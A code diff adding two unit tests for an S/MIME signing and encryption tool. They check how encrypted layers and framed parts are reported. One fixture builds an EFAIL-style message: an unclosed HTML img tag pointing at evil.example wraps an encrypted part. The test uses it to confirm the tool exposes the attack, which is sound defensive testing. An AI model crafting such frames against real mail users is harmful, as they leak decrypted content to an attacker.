@@ -186,6 +186,40 @@ public sealed class SmimeSignatureTests : ProtectionTest
     }
 
     [Fact]
+    public void What_stays_encrypted_is_a_layer_that_is_not_opened()
+    {
+        var result = Mail("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob | Get-SmimeSignature -TrustAnchor $Ca");
+        var layer = Assert.Single(Items(result.Single, "Layers"));
+        Assert.Equal("Encrypted", layer.Properties["Kind"].Value.ToString());
+        Assert.Equal(false, layer.Properties["IsOpened"].Value);
+        Assert.Equal(false, layer.Properties["IsAuthenticated"].Value);
+        Assert.Null(layer.Properties["OpenedBy"].Value);
+        Assert.NotEmpty((object[])layer.Properties["Recipients"].Value);
+        Assert.EndsWith(", not opened", layer.ToString(), StringComparison.Ordinal);
+        Assert.EndsWith("encrypted and not opened", Assert.Single(Items(result.Single, "Parts")).ToString(), StringComparison.Ordinal);
+        var opened = Mail("$Message | Protect-MailMessage -Signer $Alice -Recipient $Bob | Get-SmimeSignature -TrustAnchor $Ca -Certificate $Bob");
+        Assert.All(Items(opened.Single, "Layers"), static one => Assert.Equal(true, one.Properties["IsOpened"].Value));
+    }
+
+    [Fact]
+    public void An_encrypted_part_in_a_frame_is_told_of_and_its_layer_shown_where_it_does_not_open()
+    {
+        var encrypted = Text(Mail("$Message | Protect-MailMessage -Encrypt -Signer $Alice -Recipient $Bob").Single);
+        var framed = "From: alice@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=frame\r\n\r\n--frame\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--frame\r\n"
+            + encrypted[encrypted.IndexOf("Content-Type: ", StringComparison.Ordinal)..] + "\r\n--frame--\r\n";
+        AssertReport(framed, "NotSigned", "NotSigned");
+        var report = Mail("$Raw | Get-SmimeSignature -TrustAnchor $Ca -Certificate $Bob", ("Raw", framed)).Single;
+        Assert.Contains("Part 2 of it is encrypted", report.Properties["Verdict"].Value.ToString());
+        Assert.Empty(Items(report, "Layers"));
+        Assert.Equal([false, true], Items(report, "Parts").Select(static part => (bool)part.Properties["IsEncrypted"].Value));
+        Assert.Matches("2 +\\S*NO\\S* +Encrypted +application/pkcs7-mime", Engine.Show("($Raw | Get-SmimeSignature -TrustAnchor $Ca).Parts", [.. People(), ("Raw", framed)]));
+        var part = Assert.Single(Items(Mail("$Raw | Unprotect-MailMessage", ("Raw", framed)).Single, "Parts"));
+        Assert.NotNull(part.Properties["Problem"].Value);
+        Assert.Equal("NotEncrypted", part.Properties["Integrity"].Value.ToString());
+        Assert.Equal([false], Items(part, "Layers").Select(static layer => (bool)layer.Properties["IsOpened"].Value));
+    }
+
+    [Fact]
     public void Test_is_false_for_what_is_no_message_and_silent_about_what_is_not_there()
     {
         File.WriteAllBytes(Path.Combine(Folder, "bad.eml"), [0, 1, 2, 3]);
